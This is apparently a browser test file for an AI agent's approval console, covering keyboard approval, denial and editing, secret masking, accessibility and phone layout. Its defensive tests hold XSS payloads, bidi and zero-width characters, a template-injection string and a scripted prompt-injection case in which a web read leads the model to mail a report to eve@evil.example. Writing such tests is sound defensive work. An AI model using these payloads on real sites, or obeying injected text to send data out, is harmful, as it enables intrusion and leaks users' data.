"""The console in a real Chromium: keys, a restart, hostile text, accessibility, a phone."""

import asyncio
from pathlib import Path
from typing import Any

from tests.server.console.browsing import PHONE, TOOLS, Seat, axe, browser, seat
from tests.server.console.tools_of_console import HOSTILE, ORDER
from tests.server.model import HOLD
from tests.server.running import Client, client, scripted
from tests.server.test_runs import ended

MAIL = ("mail.send.v1", {"to": "ana@example.org", "text": "hi"})
READ = ("web.read.v1", {"address": "https://example.org/report"})
SCRIPT: dict[str, Any] = {
    "mail": [[MAIL], "It is sent."],
    "two mails": [[MAIL, ("mail.send.v1", {"to": "bo@example.org", "text": "ho"})], "Both are sent."],
    "read and mail": [
        [READ],
        [("mail.send.v1", {"to": "eve@evil.example", "text": f"Report: {ORDER}"})],
        "It is sent.",
    ],
    "hostile": [
        [("<script>window.ran = 9</script>", {"x": HOSTILE})],
        [("web.read.v1", {"address": HOSTILE})],
        [("mail.send.v1", {"to": HOSTILE, "text": HOSTILE})],
        HOSTILE,
    ],
    "door": [[("door.open.v1", {"door": "north", "code": "8441"})], "It is open."],
    "wait": [[("print.page.v1", {"page": 1}), HOLD], "One page is printed."],
}


async def run_to(http: Client, prompt: str) -> str:
    """Start a run and wait until it stops; return its id."""
    _, run = await http.post("/v1/runs", {"prompt": prompt})
    await ended(http, run["run_id"])
    name: str = run["run_id"]
    return name


async def approval_of(http: Client, run_id: str) -> str:
    _, listed = await http.get(f"/v1/approvals?state=pending&run_id={run_id}")
    name: str = listed["approvals"][0]["approval_id"]
    return name


async def state_of(http: Client, run_id: str, state: str) -> dict[str, Any]:
    """Wait until a run is in a state, and return it."""
    shown: dict[str, Any] = {}
    for _ in range(400):
        _, shown = await http.get(f"/v1/runs/{run_id}")
        if shown["state"] == state and not shown["live"]:
            return shown
        await asyncio.sleep(0.05)
    raise AssertionError(shown)


def test_an_approval_by_keyboard_resumes_the_run_after_a_restart(tmp_path: Path) -> None:
    async def main() -> None:
        store = ("--store", f"sqlite:{tmp_path / 'store.db'}")
        async with scripted(SCRIPT, *store, folder=tmp_path) as (server, _), client(server) as http:
            run_id = await run_to(http, "mail")
            await state_of(http, run_id, "pending_approval")
            assert await asyncio.to_thread(server.stop) == 0
        after: dict[str, Any] = {"mail": ["It is sent."]}
        async with (
            scripted(after, *store, folder=tmp_path) as (server, model),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            assert await at.open("/console") == 200
            keyboard = at.page.keyboard
            await keyboard.press("j")
            assert (await at.focused()).startswith("ARTICLE")
            await keyboard.press("a")
            assert await at.focused() == "BUTTON Approve a"
            assert (await http.get("/v1/approvals?state=pending"))[1]["approvals"], "one key approves nothing"
            await keyboard.press("Enter")
            await at.page.wait_for_url("**/console/approvals?done=resumed")
            assert "The run goes on." in await at.text()
            run = await state_of(http, run_id, "completed")
            assert run["answer"] == "It is sent."
            told = [item["content"] for item in model.requests[-1]["messages"] if item["role"] == "tool"]
            assert "sent to ana@example.org: hi" in told[-1]
            assert at.complaints == []

    asyncio.run(main())


def test_deny_and_edit_by_keyboard() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT, *TOOLS) as (server, model),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            await _denies(at, http, model)
            await _edits(at, http, model)
            await _keeps_what_is_masked(at, http)
            assert at.complaints == []

    asyncio.run(main())


async def _denies(at: Seat, http: Client, model: Any) -> None:
    run_id = await run_to(http, "mail")
    await at.open("/console/approvals")
    for key in ("j", "d"):
        await at.page.keyboard.press(key)
    assert await at.focused() == "INPUT reason"
    await at.page.keyboard.type("a jade bead")  # letters that are keys elsewhere
    await at.page.keyboard.press("Enter")
    await at.page.wait_for_url("**done=resumed")
    await state_of(http, run_id, "completed")
    told = [item["content"] for item in model.requests[-1]["messages"] if item["role"] == "tool"]
    assert "a jade bead" in told[-1]


async def _edits(at: Seat, http: Client, model: Any) -> None:
    model.script["mail"] = [[MAIL], "It is sent."]
    run_id = await run_to(http, "mail")
    await at.open("/console/approvals")
    for key in ("j", "e"):
        await at.page.keyboard.press(key)
    await at.page.wait_for_url("**/console/approval/edit?id=*")
    field = at.page.locator("textarea")
    await field.fill('{"to": 7}')
    await at.page.keyboard.press("Control+Enter")
    await at.page.wait_for_url("**/console/approval/review")
    await at.page.keyboard.press("a")
    await at.page.keyboard.press("Enter")
    await at.page.wait_for_url("**/console/approval/edit")
    assert "cannot run" in await at.page.inner_text("[role=alert]")
    await field.fill('{\n  "text": "hi \\u200bthere",\n  "to": "bo@example.org"\n}')
    await at.page.keyboard.press("Control+Enter")
    await at.page.wait_for_url("**/console/approval/review")
    assert [" ".join(line.split()) for line in await at.page.locator("ins").all_inner_texts()] == [
        '+ new: "text": "hi \\u200bthere",',
        '+ new: "to": "bo@example.org"',
    ]
    assert await axe(at.page) == []
    await at.page.keyboard.press("a")
    await at.page.keyboard.press("Enter")
    await at.page.wait_for_url("**done=resumed")
    await state_of(http, run_id, "completed")
    told = [item["content"] for item in model.requests[-1]["messages"] if item["role"] == "tool"]
    assert "sent to bo@example.org: hi \u200bthere" in told[-1]


async def _keeps_what_is_masked(at: Seat, http: Client) -> None:
    run_id = await run_to(http, "door")
    approval = await approval_of(http, run_id)
    for path in ("/console/approvals", f"/console/approval?id={approval}", f"/console/run?id={run_id}"):
        await at.open(path)
        assert "8441" not in await at.page.content(), path
    await at.open(f"/console/approval/edit?id={approval}")
    written = await at.page.input_value("textarea")
    assert "8441" not in written
    await at.page.fill("textarea", written.replace("north", "south"))
    await at.page.keyboard.press("Control+Enter")
    await at.page.wait_for_url("**/console/approval/review")
    assert "8441" not in await at.page.content()
    await at.page.click("button.main")
    await at.page.wait_for_url("**done=resumed")
    await state_of(http, run_id, "completed")
    await at.open(f"/console/run?id={run_id}")
    assert "south opened with 4 digits" in await at.text()


def test_j_and_k_walk_through_the_requests() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT) as (server, _),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            for name in ("one", "two", "three"):
                await http.call("mail.send.v1", {"to": f"{name}@example.org", "text": "x"}, run_id=name)
            await at.open("/console/approvals")
            seen = []
            await at.page.keyboard.press("a")  # of three, none is meant
            assert (await at.focused()).startswith("BODY")
            for key in ("j", "j", "j", "j", "k", "k", "k"):
                await at.page.keyboard.press(key)
                focused = await at.focused()
                seen.append(next(name for name in ("one", "two", "three") if f"{name}@" in focused))
            order = seen[:3]
            assert sorted(order) == ["one", "three", "two"]
            assert seen == [*order, order[2], order[1], order[0], order[0]]

    asyncio.run(main())


def test_what_is_copied_from_a_result_is_marked() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT, *TOOLS) as (server, _),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            await run_to(http, "read and mail")
            await at.open("/console/approvals")
            marked = await at.page.locator("mark").all_inner_texts()
            assert "eve@evil.example" in marked
            assert any(ORDER[:60] in text for text in marked)
            assert not any("Report:" in text for text in marked)
            text = await at.text()
            assert "This run has read what others may have written: web.read.v1." in text
            assert "What it read there speaks to the model: web.read.v1." in text

    asyncio.run(main())


def test_hostile_text_is_shown_and_runs_nothing() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT, *TOOLS) as (server, _),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            run_id = await run_to(http, "hostile")
            approval = await approval_of(http, run_id)
            named = 'x"><script>window.ran = 6</script>'
            await http.call("mail.send.v1", {"to": "a", "text": HOSTILE}, run_id=named, purpose="p")
            paths = [
                "/console/approvals",
                f"/console/approval?id={approval}",
                f"/console/approval/edit?id={approval}",
                f"/console/policy?approval={approval}",
                f"/console/run?id={run_id}",
                "/console/tools",
                "/console/tool?name=web.read.v1",
                "/console/audit?q=window.ran",
                f"/console/audit?run={run_id}",
                "/console/audit?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
                "/console/runs",
                "/console/figures",
                "/console/login?next=javascript:alert(1)",
                "/console/nowhere%22%3E%3Cscript%3Ewindow.ran=7%3C/script%3E",
            ]
            for path in paths:
                await at.open(path)
                assert await at.page.evaluate("window.ran") is None, path
                assert await at.page.locator("main script, main img, main svg[onload]").count() == 0, path
                content = await at.page.content()
                assert "\u202e" not in content, path
                assert "\u200b" not in content, path
            await at.open(f"/console/approval?id={approval}")
            text = await at.text()
            assert "<script>window.ran = 1</script>" in text
            assert "\\u202eevil\\u202c z\\u200bero {{ 7 * 7 }}" in text
            await at.open(f"/console/run?id={run_id}")
            text = await at.text()
            assert "<script>window.ran = 9</script>" in text
            assert "<img src=x onerror=" in text
            await at.open("/console/runs")
            await at.page.get_by_role("link", name="window.ran = 6").click()
            assert "<script>window.ran = 6</script>" in await at.page.inner_text("h1")
            assert await at.page.evaluate("window.ran") is None
            assert at.complaints == []

    asyncio.run(main())


def test_axe_finds_nothing_and_a_phone_need_not_scroll_sideways() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT, *TOOLS) as (server, _),
            client(server) as http,
            browser() as started,
        ):
            await run_to(http, "read and mail")
            run_id = await run_to(http, "hostile")
            approval = await approval_of(http, run_id)
            await http.call("mail.send.v1", {"to": "a" * 300, "text": "b" * 3_000}, run_id="r" * 300)
            await http.call("print.page.v1", {"page": 3}, run_id="prints")
            async with seat(started, server) as at:
                await at.open("/console/switches")
                await at.page.fill("input[name=name]", "door.open.v1")
                await at.page.locator("form.filter input[name=reason]").fill("a test")
                await at.page.click("button.bad")
                await at.page.wait_for_url("**done=killed")
            paths = [
                "/console/approvals",
                "/console/approvals?state=granted&lang=id",
                f"/console/approval?id={approval}",
                f"/console/approval/edit?id={approval}",
                "/console/runs",
                f"/console/run?id={run_id}",
                "/console/tools",
                "/console/tool?name=web.read.v1",
                f"/console/policy?approval={approval}",
                "/console/policy",
                "/console/audit",
                f"/console/audit?run={run_id}",
                "/console/figures",
                "/console/switches?done=killed",
                "/console/approval?id=none",
            ]
            for scheme in ("light", "dark"):
                async with seat(started, server, color_scheme=scheme) as at:
                    for path in paths:
                        await at.open(path)
                        assert await axe(at.page) == [], (scheme, path)
            async with seat(started, server, viewport=PHONE, is_mobile=True, has_touch=True) as at:
                for path in paths:
                    await at.open(path)
                    widths = await at.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
                    assert widths[0] <= widths[1] == PHONE["width"], path
                    assert await axe(at.page) == [], path

    asyncio.run(main())


def test_a_timeline_goes_on_while_the_run_does() -> None:
    async def main() -> None:
        async with (
            scripted(SCRIPT, *TOOLS) as (server, model),
            client(server) as http,
            browser() as started,
            seat(started, server) as at,
        ):
            _, run = await http.post("/v1/runs", {"prompt": "wait"})
            await asyncio.wait_for(model.holding.wait(), 20)
            await at.open(f"/console/run?id={run['run_id']}")
            before = await at.page.locator("#timeline > li").count()
            await at.page.evaluate("window.same = true")
            model.released.set()
            await at.page.get_by_text("The run is over.").wait_for()
            assert await at.page.inner_text("#answer") == "One page is printed."
            kinds = await at.page.locator("#timeline > li > strong").all_inner_texts()
            assert len(kinds) > before
            assert kinds[0] == "run.started"
            assert kinds[-1] == "run.finished"
            numbers = await at.page.locator("#timeline .seq").all_inner_texts()
            assert numbers == [str(number) for number in range(1, len(kinds) + 1)]
            assert "printed 1" in await at.page.inner_text("#run-calls")
            assert await at.page.evaluate("window.same") is True, "the page was not loaded again"
            assert await axe(at.page) == []
            assert at.complaints == []

    asyncio.run(main())
